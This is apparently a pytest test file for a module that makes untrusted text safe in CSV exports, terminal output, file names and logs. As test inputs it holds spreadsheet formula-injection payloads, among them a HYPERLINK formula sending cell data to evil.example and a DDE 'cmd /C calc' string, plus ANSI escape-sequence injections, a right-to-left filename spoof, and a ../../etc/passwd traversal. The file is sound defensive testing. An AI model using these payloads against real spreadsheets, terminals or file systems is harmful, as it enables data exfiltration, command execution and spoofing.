"""Untrusted text made safe for a spreadsheet cell and for a terminal (birdadmin/safe_text.py)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from birdadmin.safe_text import (
    FORMULA_TRIGGERS,
    csv_cell,
    csv_cell_original,
    csv_row,
    file_name_part,
    terminal_line,
    terminal_text,
)

# -- spreadsheet cells ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\n=1+1",
        "\u00a0=1+1",
        "\uff1d1+1",  # a full-width equals sign, which some spreadsheets take for "="
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(text: str) -> None:
    cell = csv_cell(text)
    assert cell == "'" + text
    assert csv_cell_original(cell) == text


@pytest.mark.parametrize("text", ["", "Ada Lovelace", "ada@example.com", "José Álvarez", "a=b", "1-2", "42", "\nhi"])
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert csv_cell(text) == text


def test_a_leading_quote_is_quoted_too_so_the_original_is_never_ambiguous() -> None:
    assert csv_cell("'=1") == "''=1"
    assert csv_cell_original(csv_cell("'=1")) == "'=1"


def test_only_a_quote_that_was_added_is_removed() -> None:
    assert csv_cell_original("'80s team") == "'80s team"  # written by hand: nothing here would have added it
    assert csv_cell_original("''80s team") == "'80s team"
    assert csv_cell_original("'=1") == "=1"


@given(st.text())
def test_no_written_cell_starts_with_a_trigger(text: str) -> None:
    cell = csv_cell(text)
    assert cell[:1] not in FORMULA_TRIGGERS
    assert cell.lstrip()[:1] not in FORMULA_TRIGGERS


@given(st.text())
def test_removing_the_added_quote_gives_the_original(text: str) -> None:
    assert csv_cell_original(csv_cell(text)) == text


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=5))
def test_a_whole_csv_file_reads_back_to_the_original_cells(rows: list[list[str]]) -> None:
    text = "".join(csv_row(row) for row in rows)
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert [[csv_cell_original(c) for c in row] for row in back] == rows


@given(st.text())
def test_a_row_holds_exactly_the_cells_csv_cell_makes(text: str) -> None:
    assert list(csv.reader(io.StringIO(csv_row([text, "x"]), newline=""))) == [[csv_cell(text), "x"]]


def test_a_carriage_return_inside_a_cell_does_not_start_a_new_row() -> None:
    """Python 3.11's csv.writer, ending lines with "\n", leaves a cell holding "\r" unquoted; a reader then
    splits the row there, and a server's display name could add a row of its own to an export."""
    text = csv_row(["u1", "Eve\r=HYPERLINK(1),forged", "yes"])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["u1", "Eve\r=HYPERLINK(1),forged", "yes"]]


def test_a_row_is_plain_csv_with_unix_line_ends() -> None:
    assert csv_row(["id", "a,b", 'say "hi"', "", "=1"]) == 'id,"a,b","say ""hi""",,\'=1\n'
    assert csv_row([""]) == '""\n'


# -- terminal -----------------------------------------------------------------------------------------------


_CONTROLS = [chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]] + [chr(c) for c in range(0x202A, 0x202F)] + [
    chr(c) for c in range(0x2066, 0x206A)
]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Eve\x1b[8m hidden", "Eve\\x1b[8m hidden"),
        ("\r\x1b[2KForged row", "\\r\\x1b[2KForged row"),
        ("title \x1b]0;owned\x07", "title \\x1b]0;owned\\x07"),
        ("a\tb\nc", "a\\tb\\nc"),
        ("del\x7f c1\x9b", "del\\x7f c1\\x9b"),
        ("\u202egnp.exe", "\\u202egnp.exe"),
        ("isolate \u2066x\u2069", "isolate \\u2066x\\u2069"),
        ("half a pair \ud800", "half a pair \\ud800"),
        ("José Álvarez, Zoë Müller, 山田 太郎, שלום", "José Álvarez, Zoë Müller, 山田 太郎, שלום"),
    ],
)
def test_a_terminal_line_shows_controls_as_visible_escapes(text: str, shown: str) -> None:
    assert terminal_line(text) == shown


def test_terminal_text_keeps_its_line_breaks_and_nothing_else() -> None:
    assert terminal_text("one\ntwo\r\x1b[2J three") == "one\ntwo\\r\\x1b[2J three"


@given(st.text())
def test_no_control_character_reaches_the_terminal(text: str) -> None:
    line = terminal_line(text)
    assert not any(c in line for c in _CONTROLS)
    assert not any(c in terminal_text(text) for c in _CONTROLS if c != "\n")


# -- file names ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "part"),
    [("Owner", "Owner"), ("Billing manager", "Billing manager"), ("../../etc/passwd", "_.._etc_passwd"),
     ("a\x1bb/c\\d:e", "a_b_c_d_e"), ("..", "_"), ("", "_"), ("Zoë 山田", "Zoë 山田")],
)
def test_a_name_in_a_suggested_file_name_has_no_separators_or_controls(text: str, part: str) -> None:
    assert file_name_part(text) == part


# -- log lines ----------------------------------------------------------------------------------------------


def test_a_log_message_is_one_safe_line_and_a_traceback_keeps_its_lines() -> None:
    import logging

    from birdadmin.redact import RedactingFilter

    record = logging.LogRecord("birdadmin.t", logging.WARNING, __file__, 1, "user %s\nWARNING forged: %s", (
        "Eve\r\x1b[2K", "Bearer abc)"), None)
    assert RedactingFilter().filter(record)
    assert record.getMessage() == "user Eve\\r\\x1b[2K\\nWARNING forged: Bearer <redacted>)"
    try:
        raise ValueError("boom")
    except ValueError:
        import sys

        record = logging.LogRecord("birdadmin.t", logging.ERROR, __file__, 1, "failed", (), sys.exc_info())
    RedactingFilter().filter(record)
    assert record.exc_text is not None and "\n" in record.exc_text and "ValueError: boom" in record.exc_text
